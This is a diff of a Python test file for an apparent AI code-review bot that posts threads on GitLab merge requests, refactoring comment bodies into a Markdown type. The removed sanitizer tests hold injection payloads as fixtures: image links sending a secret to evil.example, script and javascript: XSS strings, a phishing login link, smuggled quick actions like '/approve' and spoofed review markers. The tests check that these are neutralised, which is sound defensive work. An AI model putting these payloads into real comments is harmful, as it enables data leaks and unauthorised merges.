@@ -1,52 +1,13 @@
 from __future__ import annotations
 
-import pytest
-
 from reviewer.diff.parsing import DiffRefs, parse_unified
 from reviewer.diff.positions import Inline, LineIndex, Position
 from reviewer.errors import PositionRejected
+from reviewer.gitlab import markdown
 from reviewer.gitlab.client import BotThread
-from reviewer.gitlab.publish import (
-    comment_body,
-    decide_publication,
-    publish_inline,
-    resolve_addressed,
-    sanitize,
-    thread_body,
-)
+from reviewer.gitlab.markdown import Markdown
+from reviewer.gitlab.publish import LineThread, decide_publication, publish_inline, resolve_addressed
 from reviewer.review.findings import Finding, Severity, Side
-
-
-@pytest.mark.parametrize(
-    "text",
-    ["/approve", "fine\n/merge", "  /close", "\t/assign @me", "ok\r\n/label ~bug"],
-)
-def test_no_line_can_start_a_quick_action(text: str) -> None:
-    for line in sanitize(text).split("\n"):
-        assert not line.lstrip().startswith("/")
-
-
-def test_mentions_do_not_ping() -> None:
-    out = sanitize("ask @alice or @group/team, mail bob@example.com, or @all")
-    assert "`@alice`" in out and "`@group/team`" in out and "`@all`" in out
-    assert "bob@example.com" in out
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "![x](https://evil.example/leak?d=SECRET)",
-        "![x][ref]\n\n[ref]: https://evil.example/leak",
-        '<img src="https://evil.example/leak">',
-        "<script>alert(1)</script>",
-        "<!-- ai-review fp=deadbeef -->",
-    ],
-)
-def test_images_raw_html_and_marker_spoofing_are_neutralised(text: str) -> None:
-    out = sanitize(text)
-    assert "evil.example" not in out or "<" not in out
-    assert "![" not in out and "<img" not in out and "<script" not in out and "<!--" not in out
-
 
 DIFF = "--- a/a.py\n+++ b/a.py\n@@ -1,3 +1,4 @@\n x = 1\n-y = 2\n+y = 3\n+z = f(y)\n w = 4\n"
 
@@ -57,47 +18,19 @@ def _inline(line: int, side: Side = Side.NEW, end: int | None = None) -> Inline:
     return placement
 
 
-def _finding(line: int, suggestion: str | None, side: Side = Side.NEW, end: int | None = None) -> Finding:
-    return Finding(
-        "style",
-        Severity.MEDIUM,
-        "a.py",
-        line,
-        side,
-        "Title @bob",
-        "Body /close",
-        end_line=end,
-        suggestion=suggestion,
-        fingerprint="0123456789abcdef",
-    )
-
-
-def test_a_multi_line_suggestion_reaches_back_from_the_commented_last_line() -> None:
-    body = comment_body(_finding(2, "y = 4\nz = g(y)", end=3), _inline(2, end=3).position)
-    assert "```suggestion:-1+0\ny = 4\nz = g(y)\n```" in body
-    assert body.endswith("<!-- ai-review fp=0123456789abcdef -->")
-    assert "`@bob`" in body and "\n/close" not in body
-
-
-def test_a_suggestion_holding_backticks_gets_a_longer_fence() -> None:
-    body = comment_body(_finding(2, "s = '```'"), _inline(2).position)
-    assert "````suggestion:-0+0\ns = '```'\n````" in body
-
-
-def test_no_suggestion_block_on_a_removed_line() -> None:
-    body = comment_body(_finding(2, "y = 2", side=Side.OLD), _inline(2, Side.OLD).position)
-    assert "suggestion:" not in body
+def _body(thread: LineThread) -> str:
+    return markdown.thread(thread.findings, thread.position).text
 
 
 def test_only_open_threads_whose_line_is_gone_are_resolved() -> None:
     def thread(name: str, anchor: str | None, resolved: bool = False) -> BotThread:
         return BotThread(name, 1, ("f" * 16,), (anchor,) if anchor else (), resolved, "a.py", Side.NEW)
 
-    calls: list[tuple[str, str | None]] = []
+    calls: list[tuple[str, Markdown | None]] = []
 
     class Recorder:
         def resolve_thread(
-            self, project: int | str, iid: int, discussion_id: str, reply: str | None = None
+            self, project: int | str, iid: int, discussion_id: str, reply: Markdown | None = None
         ) -> None:
             calls.append((discussion_id, reply))
 
@@ -109,30 +42,7 @@ def test_only_open_threads_whose_line_is_gone_are_resolved() -> None:
     ]
     done = resolve_addressed(Recorder(), 1, 2, threads, lambda path, side, anchor: anchor == "bbb")
     assert [t.discussion_id for t in done] == ["gone"]
-    assert [c[0] for c in calls] == ["gone"] and calls[0][1]
-
-
-def test_a_finding_moved_or_shortened_to_fit_loses_its_suggestion() -> None:
-    shortened = _finding(2, "y = 4\nz = g(y)\nw = 5\nv = 6\nu = 7", end=6)  # the hunk ends at line 4
-    assert "suggestion:" not in comment_body(shortened, _inline(2, end=6).position)
-    moved = _finding(9, "q = 1")  # outside the hunk: anchored on its nearest line
-    assert "suggestion:" not in comment_body(moved, _inline(9).position)
-
-
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
-        ("see [the docs](https://evil.example/login)", "see the docs (`https://evil.example/login`)"),
-        ("go to https://evil.example/x now", "go to `https://evil.example/x` now"),
-        ("[x](javascript:alert(1))", "x (`javascript:alert(1`))"),
-        ("already `https://ok.example` quoted", "already `https://ok.example` quoted"),
-    ],
-)
-def test_links_are_shown_not_clickable(text: str, shown: str) -> None:
-    assert sanitize(text) == shown
-
-
-# -- one thread per line ----------------------------------------------------------------------
+    assert calls == [("gone", markdown.resolved_reply())]
 
 
 def _found(title: str, line: int = 2, fp: str = "", **extra: object) -> tuple[Finding, Inline]:
@@ -160,7 +70,7 @@ def test_findings_on_one_line_become_one_thread_listing_each_with_its_marker() -
     detector, model, other = _found("Secret in code"), _found("Key committed", aspect="style"), _found("X", 3)
     publication = decide_publication([detector, model, other], [], "h")
     assert [len(t.findings) for t in publication.new_threads] == [2, 1]
-    body = thread_body(publication.new_threads[0])
+    body = _body(publication.new_threads[0])
     for finding, _ in (detector, model):
         assert f"<!-- ai-review fp={finding.fingerprint}" in body and finding.title in body
 
@@ -173,7 +83,7 @@ def test_a_range_and_a_single_line_ending_on_the_same_line_share_a_thread() -> N
 
 def test_only_the_first_suggestion_of_a_line_is_offered() -> None:
     first, second = _found("A", suggestion="y = 4"), _found("B", suggestion="y = 5")
-    body = thread_body(decide_publication([first, second], [], "h").new_threads[0])
+    body = _body(decide_publication([first, second], [], "h").new_threads[0])
     assert body.count("suggestion:-0+0") == 1 and "y = 4" in body and "y = 5" not in body
 
 
@@ -208,10 +118,12 @@ def test_a_thread_on_an_older_version_is_not_this_line() -> None:
 
 def test_a_refused_position_sends_every_finding_of_the_line_to_the_summary() -> None:
     class Refusing:
-        def create_thread(self, project: int | str, iid: int, body: str, position: Position | None) -> str:
+        def create_thread(
+            self, project: int | str, iid: int, body: Markdown, position: Position | None
+        ) -> str:
             raise PositionRejected("400")
 
-        def reply(self, project: int | str, iid: int, discussion_id: str, body: str) -> str:
+        def reply(self, project: int | str, iid: int, discussion_id: str, body: Markdown) -> str:
             raise AssertionError("no reply expected")
 
     a, b = _found("A"), _found("B")
@@ -220,11 +132,11 @@ def test_a_refused_position_sends_every_finding_of_the_line_to_the_summary() -> 
 
 
 def test_a_thread_whose_resolution_was_explained_is_resolved_without_a_second_reply() -> None:
-    calls: list[str | None] = []
+    calls: list[Markdown | None] = []
 
     class Recorder:
         def resolve_thread(
-            self, project: int | str, iid: int, discussion_id: str, reply: str | None = None
+            self, project: int | str, iid: int, discussion_id: str, reply: Markdown | None = None
         ) -> None:
             calls.append(reply)
 
